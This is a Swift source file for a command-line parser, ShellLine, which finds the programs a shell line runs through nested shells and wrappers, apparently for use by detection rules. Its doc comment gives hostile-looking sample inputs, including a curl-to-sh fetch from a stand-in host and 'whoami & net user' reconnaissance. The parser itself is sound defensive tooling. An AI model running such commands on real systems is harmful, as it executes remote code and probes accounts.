/// The programs that a command line runs, looked for through shells and wrappers.
///
///     sh -c 'id; curl -s http://x | sh'   →   sh │ id │ curl │ sh
///     cmd /S /C "whoami & net user"       →   cmd │ whoami │ net
///     timeout 5 nohup /tmp/a              →   timeout │ nohup │ /tmp/a
///
/// A reading for the eye of a rule, not a shell: expansions stay as they are written. Bounded by ``textLimit``,
/// ``commandLimit`` and ``depthLimit``; what lies beyond is not read.
struct ShellLine: Sendable {
    /// One simple command.
    struct Command: Hashable, Sendable {
        /// Its words without quotes and redirections; the first is the program.
        var words: [String]
        /// Whether it only starts what follows it.
        var isWrapper = false

        /// The words with one space between them.
        var text: String { words.joined(separator: " ") }
    }

    /// Longest command line that is read, bytes.
    static let textLimit = 8192
    /// Most commands of a line.
    static let commandLimit = 64
    /// Deepest nesting of shells, wrappers and substitutions.
    static let depthLimit = 8

    /// The commands, in order.
    private(set) var commands: [Command] = []

    /// The program that the line is about: the first that is no shell, wrapper or builtin of a shell; else the last
    /// wrapper. Nil for an empty line.
    var program: String? {
        let plain = commands.filter { !$0.isWrapper }
        let telling = plain.first { !ShellLine.builtins.contains($0.words.first ?? "") }
        return (telling ?? plain.first ?? commands.last)?.words.first
    }

    /// Reads a line. O(``textLimit`` · ``depthLimit``).
    init(_ text: String) { command(Array(text.utf8.prefix(ShellLine.textLimit)), 0) }

    private struct Word {
        var text: String
        var end: Int
    }

    private static let shells: Set<String> = ["sh", "bash", "ash", "dash", "zsh", "ksh"]
    private static let wrappers: Set<String> = [
        "sudo", "doas", "nohup", "exec", "env", "nice", "ionice", "setsid", "timeout", "time", "chroot", "nsenter",
        "unshare",
        "xargs", "busybox", "stdbuf", "command", "su-exec", "gosu", "tini", "dumb-init", "start", "script", "watch",
    ]
    private static let builtins: Set<String> = [
        "cd", "echo", "export", "set", "exit", "true", "false", "test", "read", "printf", "ulimit", "umask", "unset",
        "trap",
        "return", "wait", "shift", "eval", "source", ".",
    ]
    private static let leading: Set<String> = [
        "if", "then", "elif", "else", "while", "until", "do", "!", "{", "}", "(",
    ]
    private static let silent: Set<String> = [
        "for", "case", "select", "done", "fi", "esac", "in", "function", "[", "[[", ":", ";;",
    ]

    /// The last component without `.exe`, lower case.
    static func stem(_ program: String) -> String {
        let last = program.utf8.split(omittingEmptySubsequences: true) { $0 == 0x5C || $0 == 0x2F }.last
        let name = ASCII.lowered(String(decoding: last ?? program.utf8[...], as: UTF8.self))
        return name.hasSuffix(".exe") ? String(name.dropLast(4)) : name
    }

    /// The words of a command, those in quotes split as well: how records write one and the same command differs.
    static func canonical(_ words: [String]) -> [String] {
        self.words(of: Array(words.joined(separator: " ").utf8.prefix(textLimit))).map(\.text)
    }

    /// One simple command, which may hold a line for another shell.
    private mutating func command(_ bytes: [UInt8], _ depth: Int) {
        guard depth < ShellLine.depthLimit, commands.count < ShellLine.commandLimit else { return }
        var words = ShellLine.words(of: bytes)
        while let first = words.first, ShellLine.leading.contains(first.text) || ShellLine.isAssignment(first.text) {
            words.removeFirst()
        }
        guard let first = words.first, !first.text.isEmpty, !ShellLine.silent.contains(first.text),
            !first.text.hasPrefix("#")
        else {
            return
        }
        let name = ShellLine.stem(first.text)
        if let option = ShellLine.lineOption(of: name, words) {
            commands.append(Command(words: words.map(\.text), isWrapper: true))
            line(ShellLine.unquoted(Array(bytes[option.end...])), depth + 1)
        } else if ShellLine.wrappers.contains(name), let next = ShellLine.wrapped(by: name, words) {
            commands.append(Command(words: words.prefix(next + 1).map(\.text), isWrapper: true))
            command(Array(bytes[words[next].end...]), depth + 1)
        } else {
            commands.append(Command(words: words.map(\.text)))
        }
    }

    /// A shell's line: commands between separators, and those in substitutions.
    private mutating func line(_ bytes: [UInt8], _ depth: Int) {
        guard depth < ShellLine.depthLimit else { return }
        var segment: [UInt8] = []
        var inner: [[UInt8]] = []
        var quote: UInt8 = 0
        var index = 0
        func take(_ parser: inout ShellLine) {
            parser.command(segment, depth)
            for part in inner { parser.line(part, depth + 1) }
            segment = []
            inner = []
        }
        while index < bytes.count, commands.count < ShellLine.commandLimit {
            let byte = bytes[index]
            let next = index + 1 < bytes.count ? bytes[index + 1] : 0
            if quote != UInt8(ascii: "'"), byte == UInt8(ascii: "$"), next == UInt8(ascii: "(") {
                let end = ShellLine.closing(bytes, from: index + 2)
                inner.append(Array(bytes[(index + 2)..<end]))
                segment += Array("$()".utf8)
                index = end + 1
                continue
            }
            if quote != 0 {
                if byte == quote { quote = 0 }
                segment.append(byte)
            } else if byte == UInt8(ascii: "'") || byte == UInt8(ascii: "\"") {
                quote = byte
                segment.append(byte)
            } else if byte == UInt8(ascii: "&"), segment.last == UInt8(ascii: ">") || next == UInt8(ascii: ">") {
                segment.append(byte)
            } else if ";|&\n\r()`".utf8.contains(byte) {
                take(&self)
            } else {
                segment.append(byte)
            }
            index += 1
        }
        take(&self)
    }

    /// Offset of the bracket that closes a substitution, or the end.
    private static func closing(_ bytes: [UInt8], from start: Int) -> Int {
        var open = 1
        var index = start
        while index < bytes.count {
            if bytes[index] == UInt8(ascii: "(") { open += 1 }
            if bytes[index] == UInt8(ascii: ")") {
                open -= 1
                if open == 0 { return index }
            }
            index += 1
        }
        return bytes.count
    }

    /// Words between blanks, without their quotes; redirections are left out. Always some progress.
    private static func words(of bytes: [UInt8]) -> [Word] {
        var words: [Word] = []
        var current: [UInt8] = []
        var isOpen = false
        var quote: UInt8 = 0
        var skipsTarget = false
        func close(at end: Int) {
            guard isOpen else { return }
            let text = String(decoding: current, as: UTF8.self)
            current = []
            isOpen = false
            if skipsTarget {
                skipsTarget = false
            } else if let rest = redirection(text) {
                skipsTarget = rest.isEmpty
            } else {
                words.append(Word(text: text, end: end))
            }
        }
        for (index, byte) in bytes.enumerated() {
            if quote != 0 {
                if byte == quote { quote = 0 } else { current.append(byte) }
            } else if byte == 0x22 || byte == 0x27 {
                quote = byte
                isOpen = true
            } else if byte == 0x20 || byte == 0x09 || byte == 0x0A || byte == 0x0D {
                close(at: index)
            } else {
                isOpen = true
                current.append(byte)
            }
        }
        close(at: bytes.count)
        return words
    }

    /// What follows the sign of a redirection (`2>`, `>>x`, `&>/dev/null`); nil for another word.
    private static func redirection(_ word: String) -> Substring? {
        var rest = word[...]
        if let first = rest.first, first.isNumber || first == "&" { rest = rest.dropFirst() }
        guard rest.first == ">" || rest.first == "<" else { return nil }
        return rest.drop { $0 == ">" || $0 == "<" || $0 == "&" }
    }

    private static func isAssignment(_ word: String) -> Bool {
        guard let first = word.utf8.first, (first | 0x20) &- 0x61 < 26 || first == 0x5F,
            let equals = word.utf8.firstIndex(of: UInt8(ascii: "="))
        else { return false }
        return word.utf8[..<equals].allSatisfy { ($0 | 0x20) &- 0x61 < 26 || $0 &- 0x30 < 10 || $0 == 0x5F }
    }

    /// The option after which a shell's line begins; nil when it is no shell or has none.
    private static func lineOption(of name: String, _ words: [Word]) -> Word? {
        for word in words.dropFirst() {
            let option = ASCII.lowered(word.text)
            switch name {
            case "cmd":
                guard option.hasPrefix("/") else { return nil }
                if option.hasPrefix("/c") || option.hasPrefix("/k") || option.hasPrefix("/r") {
                    return option.utf8.count == 2 ? word : nil
                }
            case "powershell", "pwsh":
                if option.utf8.count >= 2, "-command".hasPrefix(option) || "/command".hasPrefix(option) { return word }
            default:
                guard shells.contains(name), option.hasPrefix("-") || option.hasPrefix("+") else { return nil }
                if !option.hasPrefix("--"), option.hasSuffix("c") { return word }
            }
        }
        return nil
    }

    /// Index of the word before the command that a wrapper starts; nil when it starts none.
    private static func wrapped(by name: String, _ words: [Word]) -> Int? {
        var index = 1
        var dropsFolder = name == "chroot" || name == "gosu" || name == "su-exec"
        while index < words.count {
            let word = words[index].text
            let isNumber = !word.isEmpty && word.utf8.allSatisfy { $0 &- 0x30 < 10 || $0 == 0x2E || $0 == 0x73 }
            if word.hasPrefix("-") || isAssignment(word) || isNumber {
                index += 1
            } else if dropsFolder {
                dropsFolder = false
                index += 1
            } else {
                return index - 1
            }
        }
        return nil
    }

    /// A line without blanks around it and without the quotes around all of it.
    private static func unquoted(_ bytes: [UInt8]) -> [UInt8] {
        var line = bytes[...]
        while let first = line.first, first == 0x20 || first == 0x09 { line = line.dropFirst() }
        while let last = line.last, last == 0x20 || last == 0x09 { line = line.dropLast() }
        guard let quote = line.first, quote == 0x22 || quote == 0x27, line.count > 1, line.last == quote else {
            return Array(line)
        }
        let inside = line.dropFirst().dropLast()
        guard !inside.contains(quote) || quote == 0x22 else { return Array(line) }
        return Array(inside)
    }
}
